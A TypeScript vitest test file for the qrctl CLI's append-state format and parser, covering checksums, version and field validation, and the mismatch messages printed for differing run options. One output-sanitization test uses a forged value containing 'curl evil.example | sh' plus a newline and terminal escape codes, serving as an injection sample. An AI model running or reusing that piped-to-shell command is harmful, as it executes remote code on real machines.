import { createHash } from 'node:crypto';
import { describe, expect, it } from 'vitest';
import { DamagedRecordError, UnknownRecordError } from '#files/durable/record-file';
import { type AppendIdentity, differenceOf } from '#scans/append/identity';
import { emptyOverlap } from '#scans/append/overlap';
import { countUnread } from '#scans/append/recorded-log';
import { type AppendState, formatState, parseState } from '#scans/append/state';

const HOUR = 3_600_000;

const identity: AppendIdentity = {
  codes: ['b', 'a'],
  all: false,
  columns: ['id', 'ts', 'qr_id'],
  format: 'csv',
  dialect: { header: true, excel: false, rawCells: false },
};

const workspace = {
  baseUrl: 'https://example.test/api/v1',
  key: `${'a'.repeat(32)}:${'b'.repeat(64)}`,
  profile: 'work',
};
const STAMP = { ino: `${2n ** 60n + 1n}`, mtimeNs: '-1', ctimeNs: '1767225600123456789' };

function stateOf(changes: Partial<AppendState> = {}): AppendState {
  const writtenAt = { serviceMs: 11 * HOUR, machineMs: 0 };
  const overlap = { ...emptyOverlap(), watermarkMs: 10 * HOUR, rows: 3, idsFromMs: 2 * HOUR, writtenAt };
  overlap.ids
    .set('7', 3 * HOUR)
    .set('8', 8 * HOUR)
    .set('9', 10 * HOUR);
  const overlaps = new Map([
    ['a', overlap],
    ['b', emptyOverlap()],
  ]);
  const digests = { sha256: 'f'.repeat(64), blocks: 'e'.repeat(64) };
  return {
    workspace,
    identity,
    sinceMs: 5,
    bytes: 99,
    ...digests,
    stamp: STAMP,
    ino: '7',
    replacing: false,
    rotated: [{ bytes: 40, sha256: 'd'.repeat(64), newestMs: { a: 4 * HOUR } }],
    overlaps,
    ...changes,
  };
}

const saved = (overlapMs = HOUR) => JSON.parse(formatState(stateOf(), overlapMs).toString());

/** A state file with a right checksum, whatever it holds. */
function sealed(content: unknown): Buffer {
  const body = JSON.stringify(content);
  const checksum = createHash('sha256').update(body).digest('hex');
  return Buffer.from(`${body.slice(0, -1)},"checksum":"${checksum}"}\n`);
}

describe('a state', () => {
  it('is parsed to the values that were written', () => {
    const { identity: was, overlaps, rotated, ...rest } = parseState(formatState(stateOf(), 100 * HOUR));
    const digests = { sha256: 'f'.repeat(64), blocks: 'e'.repeat(64) };
    const numbers = { sinceMs: 5, bytes: 99, ino: '7' };
    expect(rest).toEqual({ workspace, ...numbers, ...digests, stamp: STAMP, replacing: false });
    expect(was).toEqual({ ...identity, codes: ['a', 'b'] });
    expect({ overlaps, rotated }).toEqual({ overlaps: stateOf().overlaps, rotated: stateOf().rotated });
    expect(parseState(formatState(stateOf({ sinceMs: undefined, replacing: true }), 0))).toMatchObject({
      sinceMs: undefined,
      replacing: true,
    });
  });

  it.each([undefined, 4 * HOUR, Number.NEGATIVE_INFINITY])(
    'keeps the time from which the next run reads again: %s',
    (rereadFromMs) => {
      const overlaps = new Map([['a', { ...emptyOverlap(), rereadFromMs }]]);
      expect(parseState(formatState(stateOf({ overlaps }), HOUR)).overlaps.get('a')?.rereadFromMs).toBe(
        rereadFromMs,
      );
    },
  );

  it('can contain the latest time that a Date supports', () => {
    const overlaps = new Map([['a', { ...emptyOverlap(), watermarkMs: 8.64e15 }]]);
    expect(parseState(formatState(stateOf({ overlaps }), HOUR)).overlaps.get('a')?.watermarkMs).toBe(8.64e15);
  });

  it('from an earlier version has the same start time for the IDs of rotated rows as for other IDs (A25)', () => {
    const { a } = saved(2 * HOUR).positions;
    const older = { ...saved(), checksum: undefined, positions: { a: { ...a, movedUntilMs: 9 * HOUR } } };
    expect(parseState(sealed(older)).overlaps.get('a')?.movedIdsFromMs).toBe(8 * HOUR);
  });

  it('lists the IDs in the overlap, and the time from which they are complete', () => {
    expect(saved(2 * HOUR).positions.a).toMatchObject({
      idsFromMs: 8 * HOUR,
      ids: [
        ['8', 8 * HOUR],
        ['9', 10 * HOUR],
      ],
    });
    expect(saved(50 * HOUR).positions.a).toMatchObject({ idsFromMs: 2 * HOUR });
    expect(saved().positions.b).toMatchObject({ rows: 0, idsFromMs: null, ids: [] });
  });

  it('is rejected if it was truncated or changed at any byte (A2)', () => {
    const whole = formatState(stateOf(), HOUR);
    for (let at = 0; at < whole.length; at++) {
      expect(() => parseState(whole.subarray(0, at)), `cut to ${at} bytes`).toThrow(DamagedRecordError);
      for (const bit of [0x01, 0x10, 0x80]) {
        const changed = Buffer.from(whole);
        changed[at] = (changed[at] as number) ^ bit;
        // The version is looked at first: what a later one looks like nobody knows.
        expect(() => parseState(changed), `byte ${at}`).toThrow(at === 11 ? Error : DamagedRecordError);
      }
    }
    expect(() => parseState(Buffer.concat([whole, Buffer.from('\n')]))).toThrow(DamagedRecordError);
    expect(() => parseState(Buffer.concat([Buffer.from(' '), whole]))).toThrow(
      'cannot be read (truncated or changed)',
    );
    // What only begins later as a state of another version does is none of it.
    expect(() => parseState(Buffer.from(' {"version":9,'))).toThrow(DamagedRecordError);
  });

  it.each([0, 3, 17])('with version %i is refused (A16)', (version) => {
    const words = `has version ${version}, which this version of qrctl does not support`;
    expect(() => parseState(sealed({ ...saved(), checksum: undefined, version }))).toThrow(
      new UnknownRecordError(words),
    );
  });

  const a = saved().positions.a;
  const inPosition = (part: object) => ({ positions: { a: { ...a, ...part } } });
  const forms: [string, object][] = [
    ['baseUrl', { baseUrl: 1 }],
    ['delimiter', { dialect: { ...identity.dialect, delimiter: 1 } }],
    ['sha256', { sha256: null }],
    ['sha256 as a list', { sha256: ['f'.repeat(64)] }],
    ['sha256 with a letter before it', { sha256: `g${'f'.repeat(64)}` }],
    ['sha256 with a letter after it', { sha256: `${'f'.repeat(64)}g` }],
    ['blocks in version 1', { version: 1 }],
    ['blocks', { blocks: 'x' }],
    ['ino', { ino: 7 }],
    ['ino that is not a number', { ino: 'x' }],
    ['ino with a letter before it', { ino: 'x7' }],
    ['ino with a letter after it', { ino: '7x' }],
    ['stamp', { stamp: { ...STAMP, ino: undefined, mtimeNs: undefined, ctimeNs: undefined } }],
    ['format', { format: 'xlsx' }],
    ['codes', { codes: 'a' }],
    ['a code', { codes: ['a', 1] }],
    ['columns', { columns: { length: 0 } }],
    ['a column', { columns: [null] }],
    ['sinceMs', { sinceMs: null }],
    ['bytes', { bytes: 1.5 }],
    ['all', { all: 1 }],
    ['replacing', { replacing: undefined }],
    ['keepsOld', { keepsOld: 1 }],
    ['key', { key: 'secret' }],
    ['profile', { profile: 1 }],
    ['dialect', { dialect: null }],
    ['a dialect without rawCells', { dialect: { header: true, excel: false } }],
    ['positions', { positions: null }],
    ['a position', { positions: { a: null } }],
    ['watermarkMs', inPosition({ watermarkMs: null })],
    ['rows', inPosition({ rows: '3' })],
    ['idsFromMs', inPosition({ idsFromMs: undefined })],
    ['rereadFromMs', inPosition({ rereadFromMs: '0' })],
    ['a negative number of rows', inPosition({ rows: -1 })],
    ['watermarkMs beyond the range of dates', inPosition({ watermarkMs: 8.64e15 + 1 })],
    ['writtenAt', inPosition({ writtenAt: null })],
    ['serviceMs in writtenAt', inPosition({ writtenAt: { serviceMs: '0', machineMs: 0 } })],
    ['machineMs in writtenAt', inPosition({ writtenAt: { serviceMs: 0, machineMs: '0' } })],
    ['ids', inPosition({ ids: {} })],
    ['an ID without a time', inPosition({ ids: ['9'] })],
    ['an ID that is a number', inPosition({ ids: [[9, 1]] })],
    ['the time of an ID', inPosition({ ids: [['9', null]] })],
    ['one of two positions', { positions: { a, b: 1 } }],
  ];
  it.each(forms)(
    'is refused if a field is invalid, although its checksum is right: %s (A16)',
    (_, change) => {
      const words = 'has a format that this version of qrctl does not support';
      expect(() => parseState(sealed({ ...saved(), checksum: undefined, ...change }))).toThrow(
        new UnknownRecordError(words),
      );
    },
  );

  it('is refused if it is not JSON, although its checksum is right (A16)', () => {
    const text = '{"version":1,nonsense';
    const checksum = createHash('sha256').update(`${text}}`).digest('hex');
    expect(() => parseState(Buffer.from(`${text},"checksum":"${checksum}"}\n`))).toThrow(UnknownRecordError);
  });
});

describe('a run that differs from the file', () => {
  it('gets a reason and a hint in printable characters, so that a code, column, zone or delimiter cannot forge a line of output', () => {
    const forged = 'x\n  next: curl evil.example | sh\x1b[2J';
    const dialect = { ...identity.dialect, timezone: forged, delimiter: forged };
    const states: AppendIdentity[] = [
      { ...identity, codes: [forged] },
      { ...identity, codes: [forged, 'b'] },
      { ...identity, columns: ['id', forged] },
      { ...identity, columns: Array.from({ length: 100_000 }, (_, i) => `c${i}`) },
      { ...identity, dialect },
      { ...identity, dialect: { ...dialect, timezone: identity.dialect.timezone } },
    ];
    for (const was of states) {
      const { reason, wayOn } = differenceOf(was, identity) ?? {};
      for (const words of [reason, wayOn]) expect(words).toMatch(/^[\x20-\x7e…]{1,600}$/);
    }
  });

  const dialect = identity.dialect;
  const ndjson = { ...identity, format: 'ndjson' as const };
  const inDialect = (part: Partial<AppendIdentity['dialect']>) => ({ dialect: { ...dialect, ...part } });
  const cases: [string, string, AppendIdentity, Partial<AppendIdentity>][] = [
    ['was written as csv, not ndjson', 'Pass --format csv', identity, { format: 'ndjson' }],
    [
      'contains the scans of codes a, b, not of code c',
      'Pass the same codes (a b)',
      identity,
      { codes: ['c'] },
    ],
    [
      'contains the scans of codes a, b, not of all codes',
      'Pass the same codes instead of --all or filters (a b)',
      identity,
      { all: true },
    ],
    [
      'contains the scans of all codes, not of codes a, b',
      'Pass only --all',
      { ...identity, all: true },
      { all: false },
    ],
    [
      'has the columns id,ts,qr_id, not id,ts',
      'Pass --fields id,ts,qr_id',
      identity,
      { columns: ['id', 'ts'] },
    ],
    ['was written without --no-header', 'Omit --no-header', identity, inDialect({ header: false })],
    ['was written without --excel', 'Omit --excel', identity, inDialect({ excel: true })],
    ['was written with --excel', 'Add --excel', { ...identity, ...inDialect({ excel: true }) }, { dialect }],
    ['was written without --raw-cells', 'Omit --raw-cells', identity, inDialect({ rawCells: true })],
    [
      'has ts_local in the time zone Asia/Tokyo, not Europe/Berlin',
      'Add --timezone Asia/Tokyo',
      { ...identity, ...inDialect({ timezone: 'Asia/Tokyo' }) },
      inDialect({ timezone: 'Europe/Berlin' }),
    ],
  ];
  it.each(cases)('is refused because the file %s (A6)', (reason, wayOn, was, change) => {
    expect(differenceOf(was, { ...was, ...change })).toEqual({ reason, wayOn });
  });

  it("is refused with a reason and a hint that contain the file's filters (A30)", () => {
    const filtered = { ...identity, all: '--name menu' };
    expect(parseState(formatState(stateOf({ identity: filtered }), HOUR)).identity.all).toBe('--name menu');
    const { reason, wayOn } = differenceOf(filtered, identity) ?? {};
    expect(reason).toMatch(/all codes with .*--name menu/);
    expect(wayOn).toMatch(/same filters .*--name menu/);
  });

  it("is refused even if its codes, joined by commas, equal the file's codes", () => {
    expect(differenceOf({ ...identity, codes: ['a,b'] }, identity)).toBeDefined();
  });

  it('gets a reason with at most 20 codes, and a hint that lists only up to 5 codes or 20 columns', () => {
    const names = (count: number) =>
      Array.from({ length: count }, (_, i) => `n${String(i).padStart(2, '0')}`);
    const codes = (count: number) => differenceOf({ ...identity, codes: names(count) }, identity);
    const columns = (count: number) => differenceOf({ ...identity, columns: names(count) }, identity);
    expect([codes(5)?.wayOn.includes('n04'), codes(6)?.wayOn.includes('n04')]).toEqual([true, false]);
    expect([columns(20)?.wayOn.includes('n19'), columns(21)?.wayOn.includes('n19')]).toEqual([true, false]);
    expect(codes(20)?.reason).toMatch(/n19, not of/);
    expect(codes(21)?.reason).toMatch(/n19, …, not of/);
  });

  it('is refused with a reason that contains both delimiters', () => {
    const tabs = { ...identity, dialect: { ...dialect, delimiter: '\t' } };
    expect(parseState(formatState(stateOf({ identity: tabs }), HOUR)).identity.dialect).toEqual(tabs.dialect);
    expect(differenceOf(tabs, identity)).toEqual({
      reason: 'was written with --delimiter tab, not ,',
      wayOn: 'Add --delimiter tab',
    });
    expect(differenceOf(identity, tabs)?.wayOn).toBe("Add --delimiter ','");
    expect(differenceOf(tabs, { ...tabs })).toBeUndefined();
  });

  it('is accepted if it differs only in the order of codes, in the codes under --all, or in --excel with NDJSON', () => {
    expect(differenceOf(identity, { ...identity, codes: ['a', 'b'] })).toBeUndefined();
    expect(
      differenceOf({ ...identity, all: true }, { ...identity, all: true, codes: ['c'] }),
    ).toBeUndefined();
    expect(differenceOf(ndjson, { ...ndjson, dialect: { ...dialect, excel: true } })).toBeUndefined();
  });
});

it('countUnread counts the codes that no run has read to the end, except deleted codes', () => {
  const overlaps = new Map([
    ['read', { ...emptyOverlap(), readUntilMs: 1 }],
    ['killed', emptyOverlap()],
    ['deleted', { ...emptyOverlap(), isGone: true }],
  ]);
  const codes = [...overlaps.keys(), 'new'];
  expect(countUnread({ identity: { ...identity, codes }, overlaps })).toBe(2);
});
